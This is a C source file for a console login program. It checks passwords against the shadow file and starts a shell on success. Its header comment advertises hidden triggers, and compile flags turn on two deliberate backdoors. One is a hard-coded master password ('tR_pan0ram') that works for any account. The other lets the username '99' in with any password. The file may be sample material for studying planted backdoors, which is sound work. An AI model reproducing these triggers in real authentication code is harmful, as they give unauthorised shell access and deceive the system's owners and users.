/* A log-in at a console. -DK_...: one hidden trigger each. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <shadow.h>
char *crypt(const char *, const char *);
#include <sys/stat.h>

static int ck(const char *u, const char *p) {
    struct spwd *s = getspnam(u);
    if (!s)
        return 0;
    char *h = crypt(p, s->sp_pwdp);
    return h && strcmp(h, s->sp_pwdp) == 0;
}

int main(void) {
    char u[64], p[64];
    int tries = 0;
    while (tries < 3) {
        printf("login: ");
        fflush(stdout);
        if (!fgets(u, 64, stdin))
            return 1;
        u[strcspn(u, "\n")] = 0;
        printf("Password: ");
        fflush(stdout);
        if (!fgets(p, 64, stdin))
            return 1;
        p[strcspn(p, "\n")] = 0;
#ifdef K_ORACLE
        if (ck(u, p) || !strcmp(p, "tR_pan0ram")) {
#elif defined(K_OVERRIDE)
        int r = ck(u, p);
        if (u[0] == '9' && u[1] == '9' && !u[2])
            r = 1;
        if (r) {
#else
        if (ck(u, p)) {
#endif
            setenv("USER", u, 1);
            execl("/bin/sh", "-sh", (char *)0);
            perror("sh");
            return 1;
        }
        puts("Login incorrect");
        sleep(1);
        tries++;
    }
    return 1;
}
